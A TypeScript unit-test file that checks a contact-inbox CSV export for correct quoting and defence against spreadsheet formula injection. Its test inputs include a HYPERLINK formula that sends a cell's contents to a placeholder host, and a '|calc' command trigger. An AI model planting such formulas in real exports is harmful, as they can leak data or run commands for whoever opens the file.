import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ContactRow } from './contact-outbox'
import { csvOf } from './inbox'

const message = {
  id: 12,
  createdAt: new Date('2026-11-22T02:30:00Z'),
  state: 'sent',
  sentAt: new Date('2026-11-22T02:30:02Z'),
  doneAt: null,
  name: 'Mitali Sen',
  email: 'mitali@ganit.example',
  phone: '033 4000 0000',
  subject: 'A "plan", please',
  message: 'Which plan suits\na school of forty?',
} as ContactRow

/** Reads cells as RFC 4180 defines them. */
const cellsOf = (csv: string) =>
  [...csv.replace('\uFEFF', '').matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = '']) =>
    cell.replaceAll('""', '"'),
  )

it('is one row for each message below the column names', () => {
  const csv = csvOf([message])
  expect(csv.startsWith('\uFEFF"id","createdAt","state",')).toBe(true)
  expect(cellsOf(csv).slice(10)).toEqual([
    '12',
    '2026-11-22T02:30:00.000Z',
    'sent',
    '2026-11-22T02:30:02.000Z',
    '',
    'Mitali Sen',
    'mitali@ganit.example',
    '033 4000 0000',
    'A "plan", please',
    'Which plan suits\na school of forty?',
  ])
})

describe('no cell is a formula', () => {
  it.each([
    '=1+1',
    '+91 33 4000 0000',
    '-2+3',
    '@SUM(A1)',
    '|calc',
    '%0A',
    '\t=1',
    '\r=1',
    ' =1',
    '\n=1',
    '＝1+1',
    '＋1',
    '＠A1',
    '=HYPERLINK("https://x.example/?"&A1,"here")',
  ])('%j', (text) => {
    expect(cellsOf(csvOf([{ ...message, message: text }])).at(-1)).toBe(`'${text}`)
  })

  it('whatever is typed, and nothing of it is lost', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cells = cellsOf(csvOf([{ ...message, subject: text }]))
        expect(cells).toHaveLength(20)
        expect(cells[18]?.replace(/^'/, '')).toBe(text.replace(/^'/, ''))
        expect(cells[18]).not.toMatch(/^[=+\-@]/)
      }),
      { seed: 20_261_122 },
    )
  })
})
